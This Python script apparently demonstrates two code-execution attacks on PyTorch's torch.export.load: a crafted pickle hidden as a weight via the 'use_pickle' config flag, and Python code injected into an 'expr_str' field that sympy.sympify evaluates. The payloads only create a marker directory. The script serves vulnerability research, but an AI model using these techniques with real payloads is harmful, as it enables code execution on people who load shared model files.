"""Two ways to run code by what `torch.export.load` reads, with a harmless payload each: it makes an empty file.

`python pt2_attacks.py FOLDER` leaves in it the files `pickled.pt2` and `sympified.pt2`, loads both, and prints as JSON
which of them made its file.
"""

import io
import json
import os
import re
import sys
import zipfile
from pathlib import Path

import torch


class Payload:
    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return os.mkdir, (str(self.marker),)


def rewritten(source, target, change):
    """A copy of an archive, each member through `change(name, data)`."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as new:
        for member in old.infolist():
            new.writestr(member.filename, change(member.filename, old.read(member.filename)))


def pickled(good, target, marker):
    """A weight that its own configuration calls a pickle: then it is `torch.load(weights_only=False)`."""
    with zipfile.ZipFile(good) as archive:
        name = next(n for n in archive.namelist() if "weights_config" in n)
        config = json.loads(archive.read(name))
    weight = next(iter(config["config"].values()))
    weight["use_pickle"] = True
    buffer = io.BytesIO()
    torch.save(Payload(marker), buffer)

    def change(member, data):
        if member == name:
            return json.dumps(config).encode()
        return buffer.getvalue() if member.endswith("/" + weight["path_name"]) else data

    rewritten(good, target, change)


def sympified(good, target, marker):
    """A size whose expression is Python: it goes through `sympy.sympify`, which evaluates it."""
    code = f"__import__('os').mkdir('{marker}') or 1"

    def change(member, data):
        if not member.endswith("models/model.json"):
            return data
        text = json.dumps(json.loads(data))
        first = re.search(r'"expr_str": "([^"]+)"', text)[1]
        return text.replace(f'"expr_str": "{first}"', f'"expr_str": "{code}"').encode()

    rewritten(good, target, change)


def main(folder):
    with torch.no_grad():
        module = torch.nn.Linear(4, 4)
        dynamic = ({0: torch.export.Dim("b", min=2, max=64)},)
        exported = torch.export.export(module, (torch.zeros(4, 4),), dynamic_shapes=dynamic, strict=False)
    torch.export.save(exported, folder / "good.pt2")
    ran = {}
    for attack in (pickled, sympified):
        name = attack.__name__
        attack(folder / "good.pt2", folder / f"{name}.pt2", folder / f"{name}.ran")
        try:
            torch.export.load(folder / f"{name}.pt2")
        except Exception as error:  # noqa: BLE001 - what an attack raises does not matter
            print(f"{name}: {type(error).__name__}", file=sys.stderr)
        ran[name] = (folder / f"{name}.ran").exists()
    print(json.dumps(ran))


if __name__ == "__main__":
    main(Path(sys.argv[1]))
